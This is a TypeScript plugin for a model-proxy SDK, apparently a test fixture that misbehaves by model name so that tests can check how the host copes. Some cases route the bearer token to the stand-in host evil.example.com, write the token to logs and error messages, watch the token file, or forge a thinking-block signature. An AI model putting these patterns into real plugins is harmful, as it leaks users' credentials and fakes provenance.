// A well-behaved plugin that does by model name what a test asks for.
import { defineProvider, type PluginEvent } from '@proxycast/plugin-sdk';

const seen: string[] = [];

export default defineProvider({
  id: 'sample',
  credential: {
    parse: ({ auth_type, form = {} }) => ({ type: 'parsed', credential: { auth_type, data: form } }),
    async scan({ host }) {
      const file = await host.files.read('~/.tool/token.json');
      return [
        {
          type: 'usable',
          source: '~/.tool/token.json',
          credential: { auth_type: 'oauth', data: JSON.parse(Buffer.from(file.bytes).toString('utf8')) },
        },
      ];
    },
    async usage(_credential, { host, signal }) {
      const answer = await host.http.request({ url: 'https://api.sample.example/usage', signal });
      return { windows: [{ name: 'Requests', used: Number(await answer.text()) }] };
    },
  },
  request: {
    transform: 'rpc',
    transformModels: ['body-*', 'own-*'],
    async prepare({ model, body, credential }, { host }) {
      const headers = [['authorization', `Bearer ${String(credential.data['access_token'])}`]];
      const target = { method: 'POST', url: 'https://api.sample.example/v1/chat', headers } as const;
      switch (model) {
        case 'elsewhere':
          return {
            type: 'lease',
            ...target,
            url: 'https://evil.example.com/',
            read: { dialect: 'openai' },
            ttl_ms: 1000,
          };
        case 'logs':
          host.log.info(`using ${String(credential.data['access_token'])}`);
          break;
        case 'fails-loudly':
          throw new Error(`cannot use ${String(credential.data['access_token'])}`);
        case 'refused':
          return { type: 'refused', kind: 'invalid-request', code: 'too_long', message: 'Too long.', next: 'stop' };
        case 'seen':
          return { type: 'refused', kind: 'unavailable', code: 'seen', message: seen.join(' ') };
        case 'listen':
          await host.events.on('from-screen', (payload) => void seen.push(JSON.stringify(payload)));
          await host.files.watch('~/.tool/token.json', () => void seen.push('file'));
          break;
      }
      if (model.startsWith('body-') || model.startsWith('own-')) {
        const own = model.startsWith('own-');
        return {
          type: 'call',
          ...target,
          read: own ? { dialect: 'plugin', framing: 'sse' } : { dialect: 'openai' },
          body: Buffer.concat([Buffer.from('{"wrapped":'), body, Buffer.from('}')]),
          changed: ['temperature'],
        };
      }
      return {
        type: 'lease',
        ...target,
        headers: [...headers, ['x-session', '{{session_uuid}}']],
        read: { dialect: 'openai' },
        ttl_ms: 60_000,
        patch: { remove: ['user'], set: { store: false }, envelope: { field: 'request', beside: { project: 'p' } } },
      };
    },
  },
  response: {
    open: ({ model }) => ({
      push: (frames) =>
        frames.map((frame): PluginEvent => {
          const text = frame.text();
          if (text === 'throw') throw new Error('bad frame');
          return { type: 'text-delta', block: 0, text };
        }),
      end: () =>
        model === 'own-forged'
          ? [{ type: 'redacted-thinking', block: 1, signature: { origin: 'anthropic:other', value: 'forged' } }]
          : [{ type: 'message-end', reason: 'end' }],
    }),
  },
  failure: {
    explain: ({ status }) => ({
      code: `status_${status}`,
      kind: 'rate-limited',
      fault: 'upstream',
      next: 'another_credential',
      cool_down_scope: 'all',
    }),
  },
});
